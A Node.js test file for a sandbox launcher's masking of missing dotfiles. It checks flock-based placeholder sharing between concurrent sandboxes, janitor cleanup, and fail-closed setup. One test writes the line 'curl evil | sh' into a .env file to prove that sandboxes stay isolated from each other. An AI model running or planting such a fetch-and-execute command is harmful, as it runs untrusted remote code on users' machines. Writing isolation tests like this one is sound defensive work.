// Placeholders for --mask of missing names, shared by concurrent sandboxes
// (each holds a shared flock on the placeholders it uses; a janitor removes
// one only when it can lock it exclusively). Each test runs real sandboxes
// side by side in one directory, with different policies, and checks the
// masks inside and what is left on the host.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdirSync, readdirSync, statSync, writeFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { LAUNCHER, BASE_MOUNTS, tempDir } from '../helpers.mjs';

/** A shell probe that reports each NAME under W the sandbox could create or write. */
function probe(w, names) {
  return names.map((n) => `{ echo x > ${w}/${n}; } 2>/dev/null && echo LEAK-${n}; mkdir ${w}/${n} 2>/dev/null && echo LEAKDIR-${n};`).join(' ') + ' echo checked';
}

/** A sandbox that masks NAMES under W, prints "ready", waits for a line on stdin, then probes. */
function start(w, names, { extra = [] } = {}) {
  const flags = ['--bind', w, w, ...extra];
  for (const n of names) flags.push('--mask', `${w}/${n}`);
  const child = spawn(LAUNCHER, ['run', ...BASE_MOUNTS, ...flags, '--', '/bin/sh', '-c', `echo ready; read x; ${probe(w, names)}`], {
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '', stderr = '';
  const ready = new Promise((res, rej) => {
    child.stdout.on('data', (d) => {
      stdout += d;
      if (stdout.includes('ready')) res();
    });
    child.on('close', () => rej(new Error(`ended early: ${stdout} ${stderr}`)));
  });
  child.stderr.on('data', (d) => (stderr += d));
  const done = new Promise((res) => child.on('close', (code) => res({ code, stdout, stderr })));
  const finish = async () => {
    child.stdin.end('go\n');
    const r = await done;
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'ready\nchecked\n', r.stderr);
  };
  return { child, ready, done, finish };
}

const ls = (d) => readdirSync(d).sort();

test('many missing names in one directory: all masked, all gone after the run', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    writeFileSync(join(w, 'kept'), 'k');
    const names = ['.bashrc', '.gitconfig', '.mcp.json', '.vscode', '.idea', '.git'];
    const a = start(w, names);
    await a.ready;
    assert.deepEqual(ls(w), [...names, 'kept'].sort());
    for (const n of names) assert.equal(statSync(join(w, n)).size, 0);
    // One inode per name: a write through one name must never show under another.
    assert.equal(new Set(names.map((n) => statSync(join(w, n)).ino)).size, names.length);
    await a.finish();
    assert.deepEqual(ls(w), ['kept']);
  } finally {
    cleanup();
  }
});

test('a name another sandbox adopted stays (and stays masked there); the creator\'s other names go at once', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['.a', '.b', '.c']); // creates all three
    await a.ready;
    const ino = statSync(join(w, '.b')).ino;
    const b = start(w, ['.b', '.d']); // adopts .b, creates .d
    await b.ready;
    assert.equal(statSync(join(w, '.b')).ino, ino); // taken as it is
    await a.finish();
    // A's janitor removed what only A used, and left .b (B still uses it).
    assert.deepEqual(ls(w), ['.b', '.d']);
    await b.finish(); // .b still masked in B after A's janitor ran
    assert.deepEqual(ls(w), []);
  } finally {
    cleanup();
  }
});

test('the adopter ending first removes nothing the creator still uses', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['.a', '.b', '.c']);
    await a.ready;
    const b = start(w, ['.b']);
    await b.ready;
    await b.finish();
    assert.deepEqual(ls(w), ['.a', '.b', '.c']);
    await a.finish(); // all three still masked in A
    assert.deepEqual(ls(w), []);
  } finally {
    cleanup();
  }
});

test('three sandboxes share one name: it stays until the last one ends', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['.x', '.git']);
    await a.ready;
    const b = start(w, ['.git', '.y']);
    await b.ready;
    const c = start(w, ['.git']);
    await c.ready;
    await a.finish();
    assert.deepEqual(ls(w), ['.git', '.y']);
    await b.finish();
    assert.deepEqual(ls(w), ['.git']);
    await c.finish();
    assert.deepEqual(ls(w), []);
  } finally {
    cleanup();
  }
});

test('a directory made by one sandbox and used by another\'s placeholder is removed by whichever ends last', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['d/.env']); // creates d and d/.env
    await a.ready;
    const c = start(w, ['d/.git']); // d exists: only creates d/.git
    await c.ready;
    await a.finish();
    assert.deepEqual(ls(join(w, 'd')), ['.git']);
    await c.finish();
    assert.deepEqual(ls(w), []);
  } finally {
    cleanup();
  }
});

test('a sandbox that may write one name cannot change another sandbox\'s other placeholders through it', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['.env', '.bashrc', '.gitconfig']); // A protects all three
    await a.ready;
    // B's policy protects .bashrc only: it may write .env, and does so in
    // place (it owns the file). Were placeholders hard links of one inode,
    // that would plant its text in the host's .bashrc and .gitconfig.
    const b = start(w, ['.bashrc']);
    await b.ready;
    const r = await new Promise((res) => {
      const c = spawn(LAUNCHER, ['run', ...BASE_MOUNTS, '--bind', w, w, '--mask', `${w}/.bashrc`, '--', '/bin/sh', '-c',
        `chmod u+w ${w}/.env; echo 'curl evil | sh' > ${w}/.env && echo wrote`], { stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      c.stdout.on('data', (d) => (out += d));
      c.on('close', (code) => res({ code, out }));
    });
    assert.equal(r.out, 'wrote\n');
    // On the host, only .env changed; A's other placeholders are still empty.
    assert.equal(readFileSync(join(w, '.bashrc'), 'utf8'), '');
    assert.equal(readFileSync(join(w, '.gitconfig'), 'utf8'), '');
    await b.finish();
    await a.finish();
    // .env holds data someone wrote: not a placeholder any more, kept.
    assert.deepEqual(ls(w), ['.env']);
  } finally {
    cleanup();
  }
});

test('a directory one sandbox mounts on is not removed by another that only passed through it', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    // A makes x and mounts a tmpfs on it.
    const a = spawn(LAUNCHER, ['run', ...BASE_MOUNTS, '--bind', w, w, '--tmpfs', `${w}/x`, '--', '/bin/sh', '-c',
      `echo ready; read go; echo y > ${w}/x/f && cat ${w}/x/f`], { stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '', err = '';
    a.stderr.on('data', (d) => (err += d));
    await new Promise((res) => a.stdout.on('data', (d) => { out += d; if (out.includes('ready')) res(); }));
    // C creates a placeholder inside A's directory (so it registers x too) and ends.
    const c = start(w, ['x/.env']);
    await c.ready;
    await c.finish();
    assert.deepEqual(ls(w), ['x']); // still there: A has a mount on it
    a.stdin.end('go\n');
    const code = await new Promise((res) => a.on('close', res));
    assert.equal(code, 0, err);
    assert.equal(out, 'ready\ny\n');
    assert.deepEqual(ls(w), []);
  } finally {
    cleanup();
  }
});

/** The pid (in our namespace) of the sandbox's PID 1: the launcher's child whose innermost pid is 1. */
function pid1Of(launcherPid) {
  const kids = readFileSync(`/proc/${launcherPid}/task/${launcherPid}/children`, 'utf8').trim().split(/\s+/).map(Number);
  for (const k of kids) {
    const ns = readFileSync(`/proc/${k}/status`, 'utf8').match(/^NSpid:\s+(.*)$/m)?.[1].trim().split(/\s+/) ?? [];
    if (ns.length > 1 && ns[ns.length - 1] === '1') return k;
  }
  throw new Error('no PID 1 found');
}

/** Waits (bounded) until DIR lists exactly WANT. */
async function settle(dir, want, ms = 10_000) {
  const end = Date.now() + ms;
  while (JSON.stringify(ls(dir)) !== JSON.stringify(want) && Date.now() < end) await new Promise((r) => setTimeout(r, 20));
  return ls(dir);
}

test('kill -9 of PID 1: its names go, a name another sandbox uses stays masked there', async () => {
  const { dir, cleanup } = tempDir();
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    writeFileSync(join(w, 'kept'), 'k');
    const a = start(w, ['.a', '.b', 'sub/.c']);
    await a.ready;
    const b = start(w, ['.b']);
    await b.ready;
    process.kill(pid1Of(a.child.pid), 'SIGKILL');
    await a.done;
    assert.deepEqual(await settle(w, ['.b', 'kept']), ['.b', 'kept']);
    await b.finish();
    assert.deepEqual(ls(w), ['kept']);
  } finally {
    cleanup();
  }
});

/** Holds flock MODE (-s or -x) on FILE from outside any sandbox until release(). */
async function holdLock(file, mode) {
  // Its own process group: flock(1) runs the command in a child that
  // inherits the lock, and both must go.
  const h = spawn('flock', [mode, file, '/bin/sh', '-c', 'echo held; exec sleep 60'], { stdio: ['ignore', 'pipe', 'inherit'], detached: true });
  await new Promise((res, rej) => {
    h.stdout.on('data', (d) => String(d).includes('held') && res());
    h.on('close', () => rej(new Error('flock ended early')));
  });
  let gone = false;
  return {
    release() {
      if (!gone) {
        gone = true;
        try { process.kill(-h.pid, 'SIGKILL'); } catch {}
      }
    },
  };
}

test('a process holding a placeholder\'s lock cannot hang the janitor: the run ends, that name is kept', async () => {
  const { dir, cleanup } = tempDir();
  let h;
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['.a', '.b']);
    await a.ready;
    h = await holdLock(join(w, '.a'), '-s');
    await a.finish(); // returns although the janitor cannot lock .a
    // Kept rather than removed while someone might still use it.
    assert.deepEqual(ls(w), ['.a']);
  } finally {
    h?.release();
    cleanup();
  }
});

test('a process holding a placeholder exclusively cannot hang a new sandbox: setup fails closed', async () => {
  const { dir, cleanup } = tempDir();
  let h1, h2;
  try {
    const w = join(dir, 'w');
    mkdirSync(w);
    const a = start(w, ['.git']);
    await a.ready;
    // A shared hold keeps A's janitor off the placeholder; once A is gone,
    // a second process gets it exclusively and keeps it.
    h1 = await holdLock(join(w, '.git'), '-s');
    await a.finish();
    assert.deepEqual(ls(w), ['.git']);
    const x = holdLock(join(w, '.git'), '-x');
    h1.release();
    h2 = await x;
    const b = start(w, ['.git']);
    b.ready.catch(() => {}); // it never gets ready
    const r = await b.done;
    assert.notEqual(r.code, 0);
    assert.doesNotMatch(r.stdout, /ready/);
    assert.match(r.stderr, /\.git: .*locked/);
  } finally {
    h1?.release();
    h2?.release();
    cleanup();
  }
});
